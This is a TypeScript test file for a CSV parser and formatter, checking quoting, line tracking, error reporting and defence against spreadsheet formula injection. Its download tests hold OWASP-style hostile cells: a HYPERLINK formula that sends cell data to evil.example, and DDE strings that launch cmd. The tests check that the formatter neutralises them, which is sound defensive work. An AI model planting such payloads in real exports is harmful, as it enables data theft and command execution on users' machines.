import { describe, expect, it } from "vitest";
import { formatCsv, parseCsv, servedCsvLines } from "../../src/data/csv.ts";

const values = (text: string) => parseCsv(text).records.map((r) => r.cells.map((c) => c.value));

describe("parseCsv", () => {
  it("reads quoted fields holding commas, doubled quotes and newlines", () => {
    expect(values('id,text\na,"one, two"\nb,"say ""hi"""\nc,"line 1\nline 2"\n')).toEqual([
      ["id", "text"],
      ["a", "one, two"],
      ["b", 'say "hi"'],
      ["c", "line 1\nline 2"],
    ]);
  });

  it("strips a byte-order mark and accepts CRLF line endings", () => {
    const parsed = parseCsv("\uFEFFid,name\r\nx,Y\r\n");
    expect(parsed.bom).toBe(true);
    expect(parsed.records.map((r) => r.cells.map((c) => c.value))).toEqual([["id", "name"], ["x", "Y"]]);
    expect(parsed.errors).toEqual([]);
  });

  it("places each cell at its line and column, also after a field that spans lines", () => {
    const [, second, third] = parseCsv('a,b\n"x\ny",z\nq,"r"\n').records;
    expect(second!.cells.map((c) => [c.line, c.column])).toEqual([[2, 1], [3, 4]]);
    expect(third!.line).toBe(4);
    expect(third!.cells[1]).toMatchObject({ value: "r", line: 4, column: 3, quoted: true });
  });

  it("counts a lone CR inside a quoted field as a line break, as in files from old Macs", () => {
    const [, second, third] = parseCsv('a,b\r"x\ry\rz",w\rq,r\r').records;
    expect(second!.cells.map((c) => [c.line, c.column])).toEqual([[2, 1], [4, 4]]);
    expect(third!.cells.map((c) => [c.line, c.column])).toEqual([[5, 1], [5, 3]]);
  });

  it("keeps empty cells, including a trailing one", () => {
    expect(values("a,b,c\n1,,\n")).toEqual([["a", "b", "c"], ["1", "", ""]]);
  });

  it("skips blank lines, which hold no record", () => {
    expect(values("a\n\n1\n\n")).toEqual([["a"], ["1"]]);
  });

  it("reports an unclosed quote where the field opens", () => {
    const parsed = parseCsv('a,b\n1,"never closed\n2,3\n');
    expect(parsed.errors).toEqual([expect.objectContaining({ line: 2, column: 3, message: "quoted field is never closed" })]);
  });

  it("reports a quote inside an unquoted field at the quote", () => {
    expect(parseCsv('a\nab"c\n').errors).toEqual([expect.objectContaining({ line: 2, column: 3, message: "quote inside an unquoted field" })]);
  });

  it("reports text after a closing quote", () => {
    expect(parseCsv('a,b\n"x"y,2\n').errors).toEqual([expect.objectContaining({ line: 2, column: 4, message: "text after the closing quote of a quoted field" })]);
  });

  it("round-trips what formatCsv writes", () => {
    const rows = [["id", "text"], ["1", 'comma, "quote"\nnewline'], ["2", " padded "]];
    expect(values(formatCsv(rows))).toEqual(rows);
  });
});

describe("CSV downloads", () => {
  // OWASP's CSV-injection examples: each would run as a formula if a spreadsheet opened it raw.
  const hostile = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];

  it("put an apostrophe before every cell a spreadsheet would read as a formula", () => {
    const text = formatCsv([["text"], ...hostile.map((h) => [h])]);
    expect(text.split("\n")[1]).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
    expect(text.split("\n")[2]).toBe(`'+cmd|' /C calc'!A0`);
    expect(values(text).slice(1).map((r) => r[0])).toEqual(hostile.map((h) => `'${h}`));
  });

  it("leave plain numbers, negative ones included, and ordinary text as they are", () => {
    expect(formatCsv([["-12.5", "+3", "1e-3", "Lviv", "a=b", "email@example.org"]])).toBe("-12.5,+3,1e-3,Lviv,a=b,email@example.org\n");
  });

  it("serve a maintained table with the same cells, neutralising only formula cells", () => {
    const maintained = 'id,name,note\r\nact-a,"Ann",=1+1\r\nact-b,Bob,-4\r\n';
    expect([...servedCsvLines(maintained)].join("")).toBe("id,name,note\nact-a,Ann,'=1+1\nact-b,Bob,-4\n");
  });
});
